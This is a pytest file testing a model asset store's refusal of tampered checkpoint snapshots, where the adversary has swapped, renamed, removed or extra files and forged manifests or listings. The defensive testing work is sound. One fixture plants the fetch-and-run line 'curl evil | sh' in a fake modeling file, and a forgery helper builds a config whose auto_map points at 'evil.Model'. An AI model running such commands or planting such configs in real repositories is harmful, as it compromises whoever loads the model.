"""A store that lies about a snapshot, file by file (scripts/hub_pins.py; docs/architecture.md,
"The trust boundary"): every file of a snapshot taken from a store is checked against the Hub's
listing of the pinned commit, LFS files by sha256 and every other file by its git blob id, and a
file the listing does not name, or one it names that the store lacks, refuses the snapshot.

The adversary writes the store and keeps its manifest consistent with what it planted (sizes and
sha256 rewritten), so the store's own checks pass; only the Hub's pins can refuse it. Every attack
runs against the live listing and against the one recorded in the store (the Hub unreachable).
The attacks are parametrized over every file of the test checkpoint (support.assets
make_checkpoint), so a file kind added to it is attacked too.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest
from support.assets import (
    LFS_SUFFIXES,
    FakeHub,
    install,
    make_checkpoint,
    make_tokenizer,
    tiny_recipe_raw,
)
from support.node_assets import make_spec, node, resolve
from support.node_scripts import load_script

store_mod = load_script("asset_store")
PLAN_FORMAT = load_script("asset_resolve").PLAN_FORMAT
FILES = sorted(make_checkpoint(make_tokenizer()))
KINDS = {n: "lfs" if n.endswith(LFS_SUFFIXES) else "git" for n in FILES}
DEAD_HUB = "http://127.0.0.1:9"  # discard: nothing listens, the connection is refused at once


@pytest.fixture(scope="module")
def pristine(tiny, tmp_path_factory) -> tuple[Path, str]:
    """A store holding the checkpoint as a node put it there (fetched from the Hub, pushed), made
    once; each test attacks a copy."""
    tmp = tmp_path_factory.mktemp("pins")
    server = FakeHub()
    install(server, tiny[0])
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HF_ENDPOINT", server.url)
        mp.delenv("HF_TOKEN", raising=False)
        mp.setenv("REPRODUCE_RETRY_BASE_S", "0")
        store = tmp / "store"
        spec = make_spec(tmp, tiny_recipe_raw(*tiny), store=str(store), cache="a")
        resolve(spec)
        node("fetch", "--spec", spec, "--plan", spec.with_name(spec.stem + "-plan.json"), "hf_ckpt")
        node("push", "--spec", spec, "hf_ckpt")
    server.stop()
    (key,) = (store / "hf" / "models").iterdir()
    return store, key.relative_to(store).as_posix()


def forgery(data: bytes) -> bytes:
    """Other bytes of DATA's size (a size that differs is refused before any hash is compared;
    these must be refused by the hash itself)."""
    evil = b'{"auto_map": {"AutoModel": "evil.Model"}, "model_type": "tiny"}'
    forged = (evil * (len(data) // len(evil) + 1))[: len(data)]
    return forged if forged != data else bytes(b ^ 1 for b in data)


class Attack:
    """A copy of the pristine store, its manifest at hand, and the node that fetches from it."""

    def __init__(self, pristine: tuple[Path, str], tmp: Path, tiny, hub_up: bool, monkeypatch):
        self.store = tmp / "store"
        shutil.copytree(pristine[0], self.store)
        self.key = self.store / pristine[1]
        self.manifest = json.loads((self.key / store_mod.MANIFEST).read_text())
        self.spec = make_spec(tmp, tiny_recipe_raw(*tiny), store=str(self.store), cache="b")
        self.dest = Path(
            next(a for a in json.loads(self.spec.read_text())["assets"] if a["name"] == "hf_ckpt")[
                "path"
            ]
        )
        self.plan = tmp / "plan.json"  # the plan a resolve made before the store was poisoned
        step = {"source": "store", "key": pristine[1]}
        self.plan.write_text(
            json.dumps(
                {"format": PLAN_FORMAT, "store": str(self.store), "assets": {"hf_ckpt": step}}
            )
        )
        if not hub_up:
            monkeypatch.setenv("HF_ENDPOINT", DEAD_HUB)

    def entries(self) -> dict[str, dict]:
        return {e["path"]: e for e in self.manifest["files"]}

    def plant(self, name: str, data: bytes) -> None:
        """NAME holds DATA in the store, and the manifest says so, consistently."""
        (self.key / name).parent.mkdir(parents=True, exist_ok=True)
        (self.key / name).write_bytes(data)
        entry = {"path": name, "bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
        files = [e for e in self.manifest["files"] if e["path"] != name] + [entry]
        self.manifest["files"] = sorted(files, key=lambda e: e["path"])
        self.save()

    def remove(self, name: str) -> None:
        (self.key / name).unlink()
        self.manifest["files"] = [e for e in self.manifest["files"] if e["path"] != name]
        self.save()

    def save(self) -> None:
        self.manifest["total_bytes"] = sum(e["bytes"] for e in self.manifest["files"])
        (self.key / store_mod.MANIFEST).write_text(json.dumps(self.manifest))

    def fetch(self, ok: bool = False):
        return node("fetch", "--spec", self.spec, "--plan", self.plan, "hf_ckpt", ok=ok)

    def assert_refused(self, proc, *names: str, planted: dict[str, bytes] | None = None) -> None:
        assert proc.returncode == 1, proc.stderr
        assert "the Hub's listing" in proc.stderr, proc.stderr
        for name in names:
            assert name in proc.stderr, (name, proc.stderr)
        assert not (self.dest / store_mod.MANIFEST).exists()  # the cache does not trust it
        for name, data in (planted or {}).items():  # what was planted never took a name
            assert not (self.dest / name).exists() or (self.dest / name).read_bytes() != data


@pytest.fixture(params=[True, False], ids=["live-listing", "recorded-listing"])
def attack(request, pristine, tmp_path, tiny, hub, monkeypatch) -> Attack:
    return Attack(pristine, tmp_path, tiny, request.param, monkeypatch)


def test_the_test_snapshot_has_both_kinds_of_file(tiny):
    assert FILES == sorted(tiny[0].checkpoint)  # what is attacked is what the store holds
    assert set(KINDS.values()) == {"lfs", "git"}


def test_an_untouched_store_is_fetched_every_file_checked(attack):
    proc = attack.fetch(ok=True)
    assert (attack.dest / store_mod.MANIFEST).exists()
    assert f"every one of {len(FILES)} file(s) is checked against the Hub's listing" in proc.stderr
    for name in FILES:
        assert (attack.dest / name).is_file()


@pytest.mark.parametrize("name", FILES, ids=[f"{n}-{KINDS[n]}" for n in FILES])
def test_a_swapped_file_is_refused(attack, name):
    forged = forgery((attack.key / name).read_bytes())
    attack.plant(name, forged)
    proc = attack.fetch()
    attack.assert_refused(proc, name, planted={name: forged})
    if KINDS[name] == "git":  # refused on its bytes, before any weight was fetched
        assert not list(attack.dest.glob("*.safetensors")), proc.stderr


@pytest.mark.parametrize("name", FILES)
def test_a_renamed_file_is_refused(attack, name):
    data = (attack.key / name).read_bytes()
    attack.remove(name)
    attack.plant(f"renamed-{name}", data)
    proc = attack.fetch()
    attack.assert_refused(proc, name, f"renamed-{name}", planted={f"renamed-{name}": data})


@pytest.mark.parametrize("name", FILES)
def test_a_missing_file_is_refused(attack, name):
    attack.remove(name)
    proc = attack.fetch()
    attack.assert_refused(proc, name)


@pytest.mark.parametrize("extra", ["modeling_tiny.py", "sub/chat_template.jinja"])
def test_an_extra_file_is_refused(attack, extra):
    code = b"import os; os.system('curl evil | sh')\n"
    attack.plant(extra, code)
    proc = attack.fetch()
    attack.assert_refused(proc, extra, planted={extra: code})


def test_a_rewritten_record_does_not_outvote_the_live_hub(
    pristine, tmp_path, tiny, hub, monkeypatch
):
    """The recorded listing lives in the store; while the Hub answers it is never read."""
    attack = Attack(pristine, tmp_path, tiny, True, monkeypatch)
    forged = forgery((attack.key / "config.json").read_bytes())
    attack.plant("config.json", forged)
    blob = hashlib.sha1(b"blob %d\0" % len(forged) + forged).hexdigest()  # noqa: S324
    attack.manifest["hub_listing"]["files"]["config.json"].update(bytes=len(forged), blob_id=blob)
    attack.save()
    attack.assert_refused(attack.fetch(), "config.json", planted={"config.json": forged})


@pytest.mark.parametrize("record", ["lfs-only", "none", "another-commit"])
def test_without_the_hub_a_store_recording_less_than_every_file_is_refused(
    pristine, tmp_path, tiny, hub, monkeypatch, record
):
    attack = Attack(pristine, tmp_path, tiny, False, monkeypatch)
    if record == "another-commit":
        attack.manifest["hub_listing"]["commit"] = "f" * 40
    else:
        del attack.manifest["hub_listing"]
    if record == "none":
        del attack.manifest["hub_lfs_sha256"]
    attack.save()
    proc = attack.fetch()
    assert proc.returncode == 3 if record != "another-commit" else proc.returncode == 1
    assert "nothing was fetched" in proc.stderr and not attack.dest.exists(), proc.stderr
    if record == "lfs-only":
        assert "Prepare the store again" in proc.stderr, proc.stderr


def test_a_copy_checked_against_the_live_hub_records_the_live_listing_not_the_stores(
    pristine, tmp_path, tiny, hub, monkeypatch
):
    """The store's files are right but its recorded listing was rewritten: the fetch passes (the
    live Hub vouches for every file) and the cache's manifest carries the listing the Hub gave,
    so a later push from this cache never hands the forged record on."""
    attack = Attack(pristine, tmp_path, tiny, True, monkeypatch)
    truth = json.loads(json.dumps(attack.manifest["hub_listing"]))
    for entry in attack.manifest["hub_listing"]["files"].values():
        entry.update(blob_id="0" * 40, sha256="0" * 64)
    attack.manifest["hub_lfs_sha256"] = dict.fromkeys(FILES, "0" * 64)
    attack.save()
    attack.fetch(ok=True)
    kept = json.loads((attack.dest / store_mod.MANIFEST).read_text())
    assert kept["hub_listing"] == truth
    assert set(kept["hub_lfs_sha256"].values()) == {
        e["sha256"] for e in truth["files"].values() if e["sha256"]
    }


class _Answering:
    """A Hub on loopback that answers every request with one status (and X-Error-Code)."""

    def __init__(self, status: int, code: str = "", body: bytes = b"{}") -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                self.send_response(status)
                if code:
                    self.send_header("X-Error-Code", code)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.parametrize(
    ("status", "code", "body", "exit_code"),
    [
        (404, "RevisionNotFound", b"{}", 1),
        (401, "", b"{}", 1),
        (403, "", b"{}", 1),
        (429, "", b"{}", 3),
        (500, "", b"{}", 3),
        (200, "", b"<html>a captive portal</html>", 1),
    ],
    ids=["404-revision", "401", "403", "429", "500", "200-not-json"],
)
def test_a_hub_that_answers_no_never_lets_the_stores_rewritten_record_in(
    pristine, tmp_path, tiny, hub, monkeypatch, status, code, body, exit_code
):
    """The store's writer rewrote config.json, its manifest entry and the recorded listing, so
    the record vouches for the forgery; the Hub answers, but not with the listing. The node's
    fetch refuses (the record stands in only for a Hub that cannot be reached), one paragraph,
    no traceback, nothing in the cache."""
    attack = Attack(pristine, tmp_path, tiny, True, monkeypatch)
    forged = forgery((attack.key / "config.json").read_bytes())
    attack.plant("config.json", forged)
    blob = hashlib.sha1(b"blob %d\0" % len(forged) + forged).hexdigest()  # noqa: S324
    attack.manifest["hub_listing"]["files"]["config.json"].update(bytes=len(forged), blob_id=blob)
    attack.save()
    answering = _Answering(status, code, body)
    monkeypatch.setenv("HF_ENDPOINT", answering.url)
    try:
        proc = attack.fetch()
    finally:
        answering.stop()
    assert proc.returncode == exit_code, proc.stderr
    assert "not taken" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert "not reachable" not in proc.stderr
    assert not (attack.dest / store_mod.MANIFEST).exists()
    assert not (attack.dest / "config.json").exists()
